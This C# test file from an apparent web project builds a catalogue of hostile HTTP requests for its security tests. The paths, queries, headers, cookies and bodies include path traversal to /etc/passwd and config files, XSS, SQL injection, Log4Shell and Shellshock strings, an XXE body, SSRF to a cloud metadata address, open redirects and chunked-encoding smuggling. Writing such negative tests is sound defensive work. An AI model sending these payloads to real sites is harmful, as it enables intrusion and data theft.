using System.Globalization;

namespace Chitose.Exchange.Web.Tests.Running;

/// <summary>Requests that no honest reader sends, by name (security requirements 1.5).</summary>
public static class HostileRequests
{
    private static readonly string[] Paths =
    [
        "/%", "/%%", "/%2", "/%G0", "/%0", "/%zz/ja", "/ja/%", "/ja/%E3%81", "/ja/%E3", "/ja/%80", "/ja/%FF%FE", "/ja/%C0%AE", "/ja/%C0%AF",
        "/ja/%E0%80%AF", "/ja/%F0%80%80%AF", "/ja/%F8%88%80%80%AF", "/ja/%ED%A0%80", "/ja/%ED%BF%BF", "/ja/%ED%A0%80%ED%B0%80", "/ja/%F4%90%80%80",
        "/%00", "/ja/%00", "/ja/timeline%00", "/ja/partners/%00anchorage", "/ja/partners/anchorage%00.svg", "/ja/%0d%0aSet-Cookie:x=1", "/ja/%0a", "/ja/%0d", "/ja/%09", "/ja/%1b[31m", "/ja/%7f", "/ja/%08",
        "/..", "/../", "/../../etc/passwd", "/ja/../../../etc/passwd", "/ja/%2e%2e/%2e%2e/etc/passwd", "/ja/..%2f..%2fetc%2fpasswd", "/ja/..%5c..%5cwindows", "/ja/..\\..\\windows", "/ja/%252e%252e/", "/ja/%c0%ae%c0%ae/", "/ja/....//....//", "/.", "/./", "/ja/.", "/ja/..", "/ja/...", "/ja/.../timeline",
        "/css/../appsettings.json", "/css/..%2fappsettings.json", "/css/%2e%2e/appsettings.json", "/landscapes/..%2f..%2fappsettings.json", "/appsettings.json", "/web.config", "/.env", "/.git/HEAD", "/data/exchange.db", "/exchange.db", "/bin/Chitose.Exchange.Web.dll", "/wwwroot/css/site.css", "/content/site.yaml", "/Program.cs",
        "/%5c%5cevil.example", "/\\\\evil.example", "//evil.example", "///evil.example", "/%2f%2fevil.example", "/ja//evil.example/%2f..", "/http:%2f%2fevil.example",
        "/ja/<script>alert(1)</script>", "/ja/%3Cscript%3Ealert(1)%3C/script%3E", "/ja/\"onmouseover=alert(1)", "/ja/'%20OR%201=1--", "/ja/partners/'%20OR%20'1'='1", "/ja/partners/anchorage';DROP%20TABLE%20Entries;--", "/ja/partners/%25", "/ja/partners/_", "/ja/partners/*", "/ja/partners/{slug}", "/ja/partners/{{7*7}}", "/ja/${jndi:ldap:%2f%2fevil}",
        "/ja/partners/anchorage;jsessionid=1", "/ja/partners/anchorage,x", "/ja/partners/anchorage~", "/ja/partners/anchorage%20", "/ja/partners/%20anchorage", "/ja/partners/anchorage.", "/ja/partners/anchorage%E2%80%8B", "/ja/partners/%EF%BD%81nchorage", "/ja/partners/%D0%B0nchorage",
        "/ja%00/", "/ja%20/", "/%20ja/", "/j%61/", "/ja%2F", "/ja%2Ftimeline", "/ja%5Ctimeline", "/JA%2F%2Ftimeline", "/ｊａ/", "/%EF%BD%8A%EF%BD%81/", "/%C4%B0/", "/%C5%BF/", "/ja/%C4%B0", "/ja/%E2%84%AAongsberg",
        "/ja/partners", "/ja/partners/", "/ja/events/", "/p/", "/p/%00", "/p/1011%00", "/p/%D9%A1%D9%A0%D9%A1%D9%A1", "/p/99999999999999999999999999999999", "/p/-2147483648", "/p/1e3", "/p/NaN", "/p/1011;", "/p/../ja/",
        "/error/200", "/error/500", "/error/999999999999", "/error/-1", "/error/", "/error/404/", "/Error/%00", "/healthz/", "/readyz/%2e", "/sitemap.xml/", "/sitemap.xml%00", "/robots.txt.bak",
        "/staff", "/staff/", "/staff/sign-in", "/admin", "/wp-login.php", "/cgi-bin/test.cgi", "/actuator/env", "/_framework/blazor.boot.json", "/_vs/browserLink", "/swagger/index.html",
        "*", "/ja/timeline#fragment", "/ja/ time", "ja/", "", "?", "/?", "/ja/?%", "http://exchange.example.jp/ja/", "http://evil.example/ja/", "http:///ja/", "https://exchange.example.jp:443/ja/", "file:///etc/passwd", "javascript:alert(1)",
    ];

    private static readonly string[] Queries =
    [
        "page=", "page=%00", "page=%", "page=%E3", "page=1&page=2", "page=2&page=3", "page[]=2", "page[0]=2", "page.x=2", "PAGE=2", "Page=2", "page=2%00", "page=2%20", "page=%EF%BC%92", "page=%D9%A2", "page=2;drop", "page=2'--", "page=2)", "page=*", "page=%2B2", "page=0x2", "page=2e0", "page=2.0", "page=-0", "page=00", "page=1%0d%0aX:1",
        "page=9223372036854775808", "page=-9223372036854775809", "page=10000", "page=10001", "page=<script>alert(1)</script>",
        "&", "&&&&", "=", "==", "=&=", "%", "%%%", "%00=%00", "a=%ED%A0%80", "a=%FF", "a=%C0%AF", "+", "a=b=c", "a&b&c", "lang=../../x", "culture=xx-XX", "culture=%00", "ui-culture=th&culture=..", "c=th|uic=th", "returnUrl=//evil.example", "ReturnUrl=javascript:alert(1)", "url=http://169.254.169.254/", "callback=alert(1)", "_method=DELETE", "handler=Delete", "slug=kongsberg", "lang=th&slug=anchorage", "status=500", "cancel=true", "area=Staff", "controller=Errors&action=Show",
        "items[2147483647]=x", "a.b.c.d.e.f.g.h=1", "__proto__=1", "page=2?page=3", "page=2#x", "%70age=2", "p%61ge=abc",
    ];

    private static readonly string[] Headers =
    [
        "Accept-Language: " + "a,b;q=1.5,c;q=-1,;;;q=", "Accept-Language: en;q=NaN", "Accept-Language: en;q=0.99999999999999999999", "Accept-Language: \u00FF\u00FE", "Accept-Language: *;q=*", "Accept-Language: en\u0001", "Accept-Language: x-klingon,i-default", "Accept-Language: ja-" + "x-y-z-0123456789-abcdefghijkl",
        "Accept-Encoding: br;q=2", "Accept-Encoding: br;q=-1", "Accept-Encoding: ;;;", "Accept-Encoding: gzip;q=", "Accept-Encoding: \u00E9", "Accept-Encoding: br,br,br,br,gzip,gzip", "Accept-Encoding: identity;q=0, *;q=0", "Accept-Encoding: *;q=0.5, br;q=abc",
        "If-None-Match: *", "If-None-Match: \"", "If-None-Match: W/", "If-None-Match: ,,,", "If-None-Match: \"\u00FF\"", "If-Modified-Since: yesterday", "If-Modified-Since: Thu, 01 Jan 9999 00:00:00 GMT", "If-Modified-Since: -1", "If-Match: \"x\"", "If-Match: *", "If-Unmodified-Since: Thu, 01 Jan 1970 00:00:00 GMT", "If-Range: \"x\"",
        "Range: bytes=0-0", "Range: bytes=-1", "Range: bytes=9999999999-", "Range: bytes=0-1,2-3,4-5,6-7", "Range: bytes=5-2", "Range: lines=1-2", "Range: bytes=18446744073709551616-",
        "Cache-Control: only-if-cached", "Cache-Control: max-age=-1", "Cache-Control: max-stale=99999999999999999999", "Cache-Control: no-store", "Cache-Control: =,=", "Pragma: x",
        "X-Forwarded-For: unknown", "X-Forwarded-For: 127.0.0.1, evil, ::1", "X-Forwarded-For: " + "1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1", "X-Forwarded-For: [::1]:99999", "X-Forwarded-Proto: javascript", "X-Forwarded-Proto: https, http", "X-Forwarded-Proto: ", "X-Forwarded-Host: evil.example", "X-Forwarded-Host: <script>", "X-Forwarded-Prefix: //evil.example", "X-Forwarded-PathBase: /../..", "X-Original-URL: /staff", "X-Rewrite-URL: /staff", "X-Original-Host: evil.example", "Forwarded: for=\"_gazonk\";host=evil", "X-HTTP-Method-Override: DELETE", "X-Method-Override: TRACE", "X-Original-Method: POST",
        "Authorization: ", "Authorization: Basic ====", "Authorization: Bearer \u00FF", "Authorization: Negotiate x", "Proxy-Authorization: Basic x",
        "Accept: */*;q=x", "Accept: ,,,,", "Accept: application/json", "Accept: text/html;level=1;q=abc", "Accept-Charset: utf-7", "Content-Type: text/html; charset=utf-7", "Content-Encoding: br", "Expect: 100-continue", "Expect: 200-maybe", "Upgrade: websocket", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA", "TE: trailers, deflate;q=0.5", "Trailer: X", "Via: 1.1 evil", "Max-Forwards: 0", "Origin: null", "Origin: https://evil.example", "Referer: javascript:alert(1)", "User-Agent: () { :;}; /bin/true", "User-Agent: ${jndi:ldap://evil/x}", "User-Agent: \u00FF\u00FE", "From: x", "Access-Control-Request-Method: PUT", "Sec-Fetch-Site: cross-site", "Early-Data: 1", "Transfer-Encoding: identity", "Transfer-Encoding: gzip", "Content-Length: -1", "Content-Length: abc", "Content-Length: 99999999999999999999", "Bad Header: x", ": x", "NoColon", " Folded: x", "X-Null: a\0b", "X-Bell: a\u0007b",
    ];

    private static readonly string[] Cookies =
    [
        "__Host-lang=", "__Host-lang=xx", "__Host-lang=JA", "__Host-lang=\"ja\"", "__Host-lang=ja; __Host-lang=th", "__Host-lang=%00", "__Host-lang=ja%0d%0aX:1", "__Host-lang=../../x", "__Host-lang=<script>", "__Host-lang=\u00FF", "__Host-lang==", "__Host-lang", "=ja", ";;;;", "a=b;;c=d;=", "\"", "a=\"unclosed",
        ".AspNetCore.Culture=c=xx|uic=yy", ".AspNetCore.Culture=c=th|uic=th", ".AspNetCore.Antiforgery.x=broken", ".AspNetCore.Identity.Application=CfDJ8broken", ".AspNetCore.Session=%%%", ".AspNetCore.Cookies=chunks-999999999", ".AspNetCore.Mvc.CookieTempDataProvider=broken", "a=\u0001",
    ];

    private static readonly string[] Methods =
    [
        "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "TRACK", "CONNECT", "PROPFIND", "MKCOL", "MOVE", "COPY", "LOCK", "SEARCH", "DEBUG", "PURGE", "QUERY", "get", "Get", "head", "GETT", "X", "FOO-BAR", "G3T", "POST\t", "(GET)", "GET,POST", "<GET>",
    ];

    private static readonly (string Type, string Body)[] Bodies =
    [
        ("text/html; charset=utf-7", "+ADw-script+AD4-"), ("application/x-www-form-urlencoded; charset=utf-7", "a=b"), ("application/x-www-form-urlencoded; charset=nonsense", "a=b"), ("application/x-www-form-urlencoded; charset=utf-16", "a"), ("application/x-www-form-urlencoded", "%"), ("application/x-www-form-urlencoded", "%00=%00"), ("application/x-www-form-urlencoded", "a=%ED%A0%80"), ("application/x-www-form-urlencoded", "a[2147483647]=x"), ("application/x-www-form-urlencoded", "_method=DELETE"), ("application/x-www-form-urlencoded", "&&&&===="),
        ("multipart/form-data", "x"), ("multipart/form-data; boundary=", "x"), ("multipart/form-data; boundary=b", "--b"), ("multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx"), ("multipart/form-data; boundary=\"", "--\""), ("multipart/form-data; boundary=" + "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb", "x"), ("multipart/form-data; boundary=b", "--b\r\n: :\r\n\r\n--b--"), ("multipart/mixed; boundary=b", "--b--"),
        ("application/json", "{"), ("application/json", "{\"a\":" + "[[[[[[[[[[[[[[[[[[[["), ("application/json; charset=utf-7", "{}"), ("application/xml", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"), ("text/plain", "\0\0\0"), ("", "x"), ("/", "x"), (";;;", "x"), ("application/", "x"), ("\u00FF/\u00FE", "x"), ("application/octet-stream", "\u00FF\u00FE\u00FD"), ("application/csp-report", "{}"),
    ];

    public static readonly IReadOnlyDictionary<string, RawRequest> All = Make();

    private static Dictionary<string, RawRequest> Make()
    {
        var requests = new Dictionary<string, RawRequest>();
        void Add(string kind, int number, RawRequest request) => requests.Add(string.Create(CultureInfo.InvariantCulture, $"{kind} {number:000}"), request);
        foreach (var (index, path) in Paths.Index())
        {
            Add("path", index, new RawRequest(path));
        }

        foreach (var (index, query) in Queries.Index())
        {
            Add("query of a list", index, new RawRequest("/ja/events?" + query));
            Add("query of a page", index, new RawRequest("/en/partners/anchorage?" + query));
        }

        foreach (var (index, header) in Headers.Index())
        {
            Add("header on a page", index, new RawRequest("/ja/timeline") { Headers = [header] });
            Add("header at the root", index, new RawRequest("/") { Headers = [header] });
        }

        foreach (var (index, cookie) in Cookies.Index())
        {
            Add("cookie at the root", index, new RawRequest("/") { Headers = ["Cookie: " + cookie] });
            Add("cookie on an error page", index, new RawRequest("/nothing") { Headers = ["Cookie: " + cookie] });
        }

        foreach (var (index, method) in Methods.Index())
        {
            Add("method on a page", index, new RawRequest("/ja/") { Method = method });
            Add("method on nothing", index, new RawRequest("/nothing") { Method = method });
        }

        foreach (var (index, (type, body)) in Bodies.Index())
        {
            Add("body sent to a page", index, new RawRequest("/ja/contact") { Method = "POST", Headers = ["Content-Type: " + type], Body = body });
            Add("body sent with a reading", index, new RawRequest("/ja/contact") { Headers = ["Content-Type: " + type], Body = body });
            Add("packed body", index, new RawRequest("/nothing") { Method = "POST", Headers = ["Content-Type: " + type, "Content-Encoding: gzip"], Body = body });
        }

        Add("protocol", 0, new RawRequest("/ja/") { Protocol = "HTTP/1.0" });
        Add("protocol", 1, new RawRequest("/ja/") { Protocol = "HTTP/0.9" });
        Add("protocol", 2, new RawRequest("/ja/") { Protocol = "HTTP/3.0" });
        Add("protocol", 3, new RawRequest("/ja/") { Protocol = "HTTP/1.1 x" });
        Add("protocol", 4, new RawRequest("/ja/") { Protocol = "" });
        Add("chunks", 0, new RawRequest("/ja/") { Method = "POST", Headers = ["Transfer-Encoding: chunked"], Body = "0\r\n\r\n" });
        Add("chunks", 1, new RawRequest("/ja/") { Method = "POST", Headers = ["Transfer-Encoding: chunked"], Body = "zz\r\nx\r\n0\r\n\r\n" });
        Add("chunks", 2, new RawRequest("/ja/") { Method = "POST", Headers = ["Transfer-Encoding: chunked"], Body = "FFFFFFFFFFFFFFFFF\r\n" });
        Add("chunks", 3, new RawRequest("/ja/") { Method = "POST", Headers = ["Transfer-Encoding: chunked", "Content-Length: 5"], Body = "0\r\n\r\n" });
        Add("chunks", 4, new RawRequest("/ja/") { Method = "POST", Headers = ["Transfer-Encoding: chunked, chunked"], Body = "0\r\n\r\n" });
        return requests;
    }
}
